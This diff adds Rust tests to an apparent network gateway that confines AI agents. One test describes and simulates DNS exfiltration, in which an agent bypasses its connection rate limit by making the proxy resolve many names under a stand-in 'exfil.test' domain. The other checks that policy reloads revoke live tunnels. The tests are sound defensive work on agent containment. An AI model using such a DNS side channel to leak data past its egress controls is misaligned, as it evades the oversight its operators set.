@@ -259,3 +259,101 @@ async fn a_denied_transparent_hello_spends_no_token() {
     drop(s);
     gw.stop().await;
 }
+
+/// Answers every name with 127.0.0.1 and counts the lookups it was asked for.
+#[derive(Clone, Default)]
+struct Counting(std::sync::Arc<std::sync::atomic::AtomicUsize>);
+
+impl Resolve for Counting {
+    fn lookup<'a>(&'a self, _name: &'a str) -> BoxFuture<'a, Result<Vec<IpAddr>, ResolveError>> {
+        self.0.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
+        Box::pin(async { Ok(vec!["127.0.0.1".parse().unwrap()]) })
+    }
+}
+
+/// DNS exfiltration through the proxy's resolver: the explicit proxy resolved before it took
+/// the agent's limits, so an agent limited to 1 new connection/s put 4,000 names of its
+/// choosing on the upstream DNS in 4.8 s. Now the limits come first: a refused CONNECT
+/// resolves nothing.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_agent_at_one_connection_a_second_cannot_make_the_gateway_resolve_more() {
+    let up = silent_upstream().await;
+    let port = up.addr.port();
+    let agent = format!(
+        "name = \"coder-1\"\nsources = [\"127.0.0.0/8\"]\nallow = [\".exfil.test:{port}\"]\nallow_cidrs = [\"127.0.0.1/32:{port}\"]\n[limits]\nnew_connections_per_second = 1\nburst = 1\n"
+    );
+    let lookups = Counting::default();
+    let gw = gateway(&[("coder-1", &agent)], &[], lookups.clone()).await;
+    let started = std::time::Instant::now();
+    let (mut ok, mut limited) = (0, 0);
+    for i in 0..200 {
+        let name = format!("c{i:04}x{:x}.exfil.test", i * 7919);
+        match open_tunnel(gw.proxy, &name, port).await {
+            Ok(_) => ok += 1,
+            Err(head) if head.contains("429") => limited += 1,
+            Err(head) => panic!("unexpected answer: {head}"),
+        }
+    }
+    let elapsed = started.elapsed().as_secs_f64();
+    let resolved = lookups.0.load(std::sync::atomic::Ordering::Relaxed);
+    // The burst, then one a second (and one for a second boundary crossed).
+    let allowed = 1 + elapsed.ceil() as usize + 1;
+    assert!(
+        limited > 150,
+        "the rate limit did not hold: {ok} ok, {limited} limited"
+    );
+    assert!(
+        resolved <= allowed,
+        "{resolved} names resolved in {elapsed:.1} s for an agent at 1 connection/s ({ok} admitted)"
+    );
+    assert_eq!(resolved, ok, "only admitted connections resolve");
+    gw.stop().await;
+}
+
+/// A reload that changes the limits a live tunnel is shaped by (its bandwidth, its daily
+/// budget) revokes it: the agent reopens under the new limits instead of keeping the old
+/// ones for as long as the tunnel lives.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_reload_that_changes_the_tunnels_limits_revokes_it() {
+    let up = silent_upstream().await;
+    let port = up.addr.port();
+    let rules = |limits: &str| {
+        format!(
+            "name = \"coder-1\"\nsources = [\"127.0.0.0/8\"]\nallow = [\"allowed.test:{port}\"]\nallow_cidrs = [\"127.0.0.1/32:{port}\"]\n[limits]\n{limits}\n"
+        )
+    };
+    let gw = gateway(
+        &[("coder-1", &rules("bandwidth = \"10 MiB/s\""))],
+        &[],
+        localhost_resolver(&["allowed.test"]),
+    )
+    .await;
+    let mut unchanged = open_tunnel(gw.proxy, "allowed.test", port).await.unwrap();
+    // A reload that leaves the limits as they were revokes nothing.
+    let (code, body) = signed_reload(gw.admin).await;
+    assert_eq!(code, 200, "{body}");
+    let mut b = [0u8; 16];
+    let still = tokio::time::timeout(Duration::from_millis(500), unchanged.read(&mut b)).await;
+    assert!(
+        still.is_err(),
+        "an unchanged reload cut the tunnel: {still:?}"
+    );
+    std::fs::write(
+        gw.dir.path().join("rules/agents/coder-1.toml"),
+        rules("bandwidth = \"10 KiB/s\""),
+    )
+    .unwrap();
+    let (code, body) = signed_reload(gw.admin).await;
+    assert_eq!(code, 200, "{body}");
+    let closed = tokio::time::timeout(Duration::from_secs(2), unchanged.read(&mut b)).await;
+    assert!(
+        matches!(closed, Ok(Ok(0) | Err(_))),
+        "the tunnel kept its old bandwidth past the reload: {closed:?}"
+    );
+    let lines = gw.log_lines(1).await;
+    assert!(
+        lines.iter().any(|l| l["event.reason"] == "policy_revoked"),
+        "{lines:?}"
+    );
+    gw.stop().await;
+}
